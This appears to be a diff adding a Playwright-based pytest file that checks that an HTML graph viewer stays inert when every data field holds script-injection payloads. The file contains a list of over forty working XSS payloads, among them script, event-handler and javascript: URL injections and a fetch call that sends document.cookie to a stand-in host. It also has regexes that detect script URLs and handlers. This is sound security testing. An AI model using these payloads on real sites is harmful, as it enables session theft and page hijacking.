@@ -1,0 +1,226 @@
+"""The page stays inert whatever the data holds: script-injection payloads in every text field.
+
+A dataset is built directly from ``graph.model`` objects (the validator would
+refuse some of it: script URLs, unknown kinds and modalities, markup in ids),
+with each payload of :data:`PAYLOADS` placed in every text field: entity
+names, aliases, descriptions, codes; source titles, kinds, authors, outlets,
+urls, perspectives; relation modes, contexts, modalities, asserted_by,
+quotes, notes, attribute keys and values; and some ids. Every payload, if it
+ran, would set ``window.__pwned``, open a dialog or make a request (all
+recorded by the fixtures of ``conftest.py``). Chromium then hovers and clicks
+every entity and relation, every button of the details panel, every filter,
+searches for every payload and loads hostile URL fragments; nothing may run.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from graph.dataset import Dataset
+from graph.model import Entity, Evidence, Relation, Source
+from graph.render import write_html
+from graph.vocab import RELATION_TYPES
+from graph.when import parse_when
+
+PWN = "window.__pwned=1"
+PAYLOADS = [
+    f"<script>{PWN}</script>",
+    f"<script src=\"https://evil.example/x.js\"></script>",
+    f"</script><script>{PWN}</script>",
+    f"<!--</script><script>{PWN}</script>-->",
+    f"<img src=x onerror=\"{PWN};alert(1)\">",
+    f"<img src=\"https://evil.example/pixel.png\">",
+    f"<svg onload={PWN}>",
+    f"<svg><script>{PWN}</script></svg>",
+    f"<body onload={PWN}>",
+    f"<iframe src=\"javascript:{PWN}\"></iframe>",
+    f"<iframe srcdoc=\"<script>parent.{PWN}</script>\"></iframe>",
+    f"<a href=\"javascript:{PWN}\">click me</a>",
+    f"javascript:{PWN}",
+    f"JaVaScRiPt:{PWN}",
+    f"  javascript:alert(1)",
+    f"data:text/html,<script>{PWN}</script>",
+    f"vbscript:msgbox(1)",
+    f"\"><script>{PWN}</script>",
+    f"'><img src=x onerror={PWN}>",
+    f"\" onmouseover=\"{PWN}\" x=\"",
+    f"' onfocus='{PWN}' autofocus='",
+    f"<details open ontoggle={PWN}>",
+    f"<input autofocus onfocus={PWN}>",
+    f"<video><source onerror={PWN}></video>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
+    f"<style>@import 'https://evil.example/x.css';</style>",
+    f"<link rel=stylesheet href=https://evil.example/x.css>",
+    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{PWN}\">",
+    f"<object data=\"javascript:{PWN}\"></object>",
+    f"<embed src=\"javascript:{PWN}\">",
+    f"<form action=\"javascript:{PWN}\"><button>go</button></form>",
+    f"<base href=\"https://evil.example/\">",
+    f"{{{{constructor.constructor('{PWN}')()}}}}",
+    f"${{{PWN}}}",
+    f"`;{PWN};`",
+    f"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e",
+    f"&lt;script&gt;{PWN}&lt;/script&gt;",
+    f"\u2028\u2029</script><script>{PWN}</script>",
+    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
+    f"<x onclick={PWN} style=\"position:fixed;inset:0\">cover</x>",
+    f"fetch('https://evil.example/?c='+document.cookie)",
+    f"<img src=x onerror=\"fetch('https://evil.example/')\">",
+]
+
+
+def injection_dataset():
+    n = len(PAYLOADS)
+    types = [t for t in RELATION_TYPES]
+    entities, sources, relations = {}, {}, []
+    for i, p in enumerate(PAYLOADS):
+        eid = f"E{i}" if i % 5 else f"E{i}{p[:12]}"      # some ids carry markup too
+        entities[eid] = Entity(
+            id=eid, name=f"{p} #{i}", kind="state" if i % 3 else p, aliases=(p, f"alias{i} {p}"),
+            codes={"wikidata": p, "cameo": p, p: p}, part_of=None, description=f"{p} described")
+        sid = f"S{i}"
+        sources[sid] = Source(id=sid, title=p, kind=p if i % 2 else "op-ed", published=parse_when("2024"),
+                              author=p, outlet=p, url=p if i % 2 else f"https://example.org/{i}?q={p}",
+                              perspective=p, text=p)
+    ids = list(entities)
+    for i, p in enumerate(PAYLOADS):
+        t = types[i % len(types)]
+        modes = RELATION_TYPES[t].modes
+        relations.append(Relation(
+            id=f"r{i}" if i % 7 else f"r{i}{p[:10]}", subject=ids[i], object=ids[(i + 1) % n], type=t,
+            modality=("reported", "claimed", "recommended", "speculated", "denied")[i % 5] if i % 4 else p,
+            polarity=RELATION_TYPES[t].polarity, mode=p if not modes or i % 2 else modes[0],
+            context=(p, "military"), asserted_by=ids[(i + 2) % n] if i % 3 else p,
+            when=parse_when(("2021", "2022-03", "2023-01-02", "2021..2024")[i % 4]),
+            evidence=(Evidence(f"S{i}", p), Evidence(f"S{(i + 1) % n}", f"quote {i}: {p}")),
+            attributes={p: p, f"k{i}": p, "n": i, "nested": {p: [p, i]}}, note=f"{p}\n{p}"))
+    return Dataset(sources, entities, relations)
+
+
+@pytest.fixture(scope="module")
+def injection_page(tmp_path_factory):
+    return write_html(injection_dataset(), tmp_path_factory.mktemp("injection") / "injection.html")
+
+
+FOREIGN = "script, iframe, object, embed, img, video, audio, source, math, base, form, link, meta, details, x, style"
+COUNT_FOREIGN = f"document.querySelectorAll('{FOREIGN}').length"
+LIST_FOREIGN = f"[...document.querySelectorAll('{FOREIGN}')].map(e => e.outerHTML.slice(0, 80))"
+BASELINE = []
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _page_scripts(browser, seed_page):
+    """How many script, meta, style... elements a page of benign data has."""
+    ctx = browser.new_context()
+    page = ctx.new_page()
+    page.route("**/*", lambda r: r.continue_() if r.request.url.startswith("file:") else r.abort())
+    page.goto(seed_page.resolve().as_uri() if hasattr(seed_page, "resolve") else "file://" + str(seed_page))
+    page.wait_for_function("document.documentElement.dataset.ready === '1'", timeout=30000)
+    BASELINE[:] = [page.evaluate(COUNT_FOREIGN)]
+    ctx.close()
+
+
+def assert_inert(p):
+    assert p.js("typeof window.__pwned") == "undefined", "a payload ran"
+    # nothing in the page carries an event handler, a script URL, or an element the data could add
+    bad = p.js("""[...document.querySelectorAll('*')].filter(el => [...el.attributes].some(
+        at => /^on/i.test(at.name) || at.name === 'srcdoc' ||
+              (/^(href|src|action|formaction|data|xlink:href|background|poster|ping)$/i.test(at.name) &&
+               /^\\s*(javascript|vbscript|data):/i.test(at.value)))).map(el => el.outerHTML.slice(0, 120))""")
+    # (a title attribute may well hold the text "javascript:...": it is shown, never followed)
+    assert bad == []
+    # no element the data could have brought in: as many of these as in the page of the seed data
+    assert p.js(COUNT_FOREIGN) == BASELINE[0], p.js(LIST_FOREIGN)
+    for a in p.js("[...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))"):
+        assert a.startswith(("https://", "http://")) or a.startswith("blob:") or a == "#", a
+    p.assert_clean()
+
+
+def test_the_payload_list_is_long_enough():
+    assert len(PAYLOADS) >= 30 and len(set(PAYLOADS)) == len(PAYLOADS)
+
+
+def test_payloads_in_every_field_run_nothing_while_everything_is_used(open_page, injection_page):
+    ds = injection_dataset()
+    p = open_page(injection_page)
+    page = p.page
+    nodes, edges = p.visible()
+    assert nodes == set(ds.entities)
+    assert edges == {r.id for r in ds.relations()}
+    # every entity: hover (tooltip), click (panel), and every button of its panel
+    for nid in ds.entities:
+        p.js("actorgraph.reset()")
+        pt = p.js("(id) => actorgraph.nodePoint(id)", nid)
+        page.mouse.move(pt["x"] - 15, pt["y"] - 15)
+        page.mouse.move(pt["x"], pt["y"], steps=2)
+        page.wait_for_timeout(60)
+        page.mouse.click(pt["x"], pt["y"])
+        p.js("(id) => actorgraph.select('node', id)", nid)
+        assert ds.entities[nid].name in p.panel_text()
+        _click_panel(page)
+    assert_inert(p)
+    # every relation: hover, click, panel buttons; the quotes show as text
+    for r in ds.relations():
+        p.js("actorgraph.reset()")
+        pt = p.js("(id) => actorgraph.edgePoint(id)", r.id)
+        if pt:
+            page.mouse.move(pt["x"], pt["y"], steps=2)
+            page.wait_for_timeout(60)
+            page.mouse.click(pt["x"], pt["y"])
+        p.js("(id) => actorgraph.select('edge', id)", r.id)
+        text = p.panel_text()
+        assert r.evidence[0].quote.strip() in text
+        _click_panel(page)
+    tip = p.js("document.querySelector('div.vis-tooltip') && document.querySelector('div.vis-tooltip').textContent")
+    assert tip is not None
+    assert_inert(p)
+    # every filter control, on and off, and the time sliders
+    p.js("actorgraph.reset()")
+    boxes = page.locator("#ag-filters input[type=checkbox]")
+    for i in range(boxes.count()):
+        box = boxes.nth(i)
+        if box.is_visible():
+            box.click()
+            box.click()
+    for sel in page.locator("#ag-filters select").all():
+        for value in sel.evaluate("s => [...s.options].map(o => o.value)")[:12]:
+            sel.select_option(value)
+    for rng in page.locator("#ag-filters input[type=range]").all():
+        rng.fill(rng.get_attribute("min"))
+        rng.fill(rng.get_attribute("max"))
+    for b in page.locator("#ag-filters button").all():
+        if b.is_visible():
+            b.click()
+    assert_inert(p)
+    # search for every payload (and the names that carry them)
+    for i, payload in enumerate(PAYLOADS):
+        page.fill("#ag-search", payload if i % 2 else f"alias{i} {payload}")
+        page.press("#ag-search", "Enter")
+    # hostile fragments
+    for payload in PAYLOADS[:12]:
+        page.evaluate("(h) => { location.hash = h; }",
+                      f"entity={payload}&relation={payload}&focus={payload}&type={payload}&src={payload}")
+    page.wait_for_timeout(200)
+    for button in ("#ag-json", "#ag-png"):
+        with page.expect_download():
+            page.click(button)
+    page.click("#ag-reset")
+    assert_inert(p)
+
+
+def _click_panel(page):
+    buttons = page.locator("#ag-panel button")
+    for i in range(buttons.count()):
+        b = page.locator("#ag-panel button")
+        if i < b.count() and b.nth(i).is_visible():
+            b.nth(i).click()
+
+
+@pytest.mark.parametrize("i", range(0, len(PAYLOADS), 10))
+def test_a_payload_in_the_fragment_on_load_runs_nothing(open_page, injection_page, i):
+    from urllib.parse import quote
+
+    payload = quote(PAYLOADS[i], safe="")
+    p = open_page(injection_page, f"entity={payload}&relation={payload}&focus={payload}&hops={payload}"
+                                  f"&from={payload}&src={payload}")
+    assert_inert(p)
